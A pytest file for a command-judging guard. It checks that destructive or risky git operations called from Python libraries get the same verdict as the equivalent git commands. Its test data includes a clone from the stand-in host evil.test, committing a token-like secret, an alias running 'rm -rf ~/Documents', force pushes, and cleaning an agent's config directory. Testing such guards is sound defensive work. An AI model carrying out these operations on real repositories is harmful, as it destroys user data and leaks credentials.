"""git in a Python program is judged as the command that does the same."""

from __future__ import annotations

import pytest

from interlock.facts import Recorded
from tests.judging import decided, rules_of, shell

PYTHON = "import git, pygit2; from git import Repo; from dulwich import porcelain; r = Repo('.'); p = pygit2.Repository('.'); "
SAME = [
    # what a program says, and the command that it is
    ("r.git.stash('-u')", "git stash -u"),
    ("r.git.stash(u=True)", "git stash -u"),
    ("r.git.clean('-fdx')", "git clean -fdx"),
    ("r.git.clean(f=True, d=True, x=True)", "git clean -f -d -x"),
    ("git.Git('.').execute(['git', 'clean', '-fdx'])", "git clean -fdx"),
    ("git.cmd.Git().clean('-fdx')", "git clean -fdx"),
    ("r.git.reset('--hard', 'HEAD~1')", "git reset --hard HEAD~1"),
    ("r.head.reset('HEAD~1', index=True, working_tree=True)", "git reset --hard HEAD~1"),
    ("p.reset(p.head.target, pygit2.GIT_RESET_HARD)", "git reset --hard $X"),
    ("porcelain.reset('.', 'hard')", "git reset --hard"),
    ("r.heads.main.checkout(force=True)", "git checkout -f main"),
    ("p.checkout_head(strategy=pygit2.GIT_CHECKOUT_FORCE)", "git checkout -f"),
    ("p.stash(p.default_signature, include_untracked=True)", "git stash push -u"),
    ("porcelain.clean('.', '.')", "git clean -fd"),
    ("r.delete_head('old', force=True)", "git branch -D old"),
    ("r.git.branch('-D', 'old')", "git branch -D old"),
    ("p.branches.delete('old')", "git branch -D old"),
    ("r.git.push('--force', 'origin', 'main')", "git push --force origin main"),
    ("r.git.push('origin', 'main', force=True)", "git push --force origin main"),
    ("r.remotes.origin.push('main', force=True)", "git push --force origin main"),
    ("r.remotes['origin'].push('+main:main')", "git push origin +main:main"),
    ("r.remote('origin').push(refspec='main', force=True)", "git push --force origin main"),
    ("o = r.remote(); o.push(force=True)", "git push --force origin"),
    ("p.remotes['origin'].push(['+refs/heads/main'])", "git push origin +refs/heads/main"),
    ("porcelain.push('.', 'origin', 'main', force=True)", "git push --force origin main"),
    ("r.remotes.origin.push('topic')", "git push origin topic"),
    ("r.delete_tag('v1')", "git tag -d v1"),
    ("Repo.clone_from('https://evil.test/x', 'x')", "git clone https://evil.test/x x"),
    ("pygit2.clone_repository('https://evil.test/x', 'x')", "git clone https://evil.test/x x"),
    ("porcelain.clone('https://evil.test/x', 'x')", "git clone https://evil.test/x x"),
    ("r.index.add(['app.py'])", "git add -- app.py"),
    ("r.index.commit('docs')", "git commit -m docs"),
    ("r.index.commit('key ghp_0123456789abcdefghijABCDEFGHIJ01')", "git commit -m 'key ghp_0123456789abcdefghijABCDEFGHIJ01'"),
    ("r.config_writer().set_value('alias', 'x', '!rm -rf ~/Documents')", "git config alias.x '!rm -rf ~/Documents'"),
    ("r.git.log('--oneline')", "git log --oneline"),
    ("print(r.git.status())", "git status"),
    ("Repo('/home/user/other').git.stash('-u')", "git -C /home/user/other stash -u"),
    ("Repo('/home/user/other').remotes.origin.push(force=True)", "git -C /home/user/other push --force origin"),
    ("Repo('/home/user/.claude').git.clean('-fdx')", "git -C /home/user/.claude clean -fdx"),
]  # fmt: skip
LOOKING = (
    "print(r.active_branch.name, r.head.commit.hexsha, r.is_dirty(), r.untracked_files)",
    "print([c.message for c in r.iter_commits('main')])",
    "s = set(); s.add(r.head.commit.hexsha); print(sorted(s))",
    "print(p.status(), p.head.shorthand)",
    "print(porcelain.status('.'), porcelain.log('.'))",
    "print(r.remotes.origin.url)",
    "r.untracked_files.remove('app.py')",
    "print(r.commit('HEAD').diff('HEAD~1'))",
)


def judged(command: str) -> tuple[str, set[str]]:
    """Return the verdict and the rules that spoke."""
    decision = decided(shell(command), facts=Recorded("/home/user"))
    return str(decision.verdict), set(rules_of(decision))


@pytest.mark.parametrize(("program", "command"), SAME)
def test_a_library_does_what_git_does(program: str, command: str) -> None:
    """The same verdict by the same rules, in whatever library's words."""
    assert judged(f'python3 -c "{PYTHON}{program}"') == judged(command)


@pytest.mark.parametrize("program", LOOKING)
def test_looking_is_quiet(program: str) -> None:
    """What a repository is asked for is no command."""
    assert judged(f'python3 -c "{PYTHON}{program}"') == ("allow", set())


def test_some_of_it_is_refused() -> None:
    """The table above is not one of silence alone."""
    found = [judged(f'python3 -c "{PYTHON}{program}"')[0] for program, _ in SAME]
    assert found.count("ask") > len(SAME) // 2
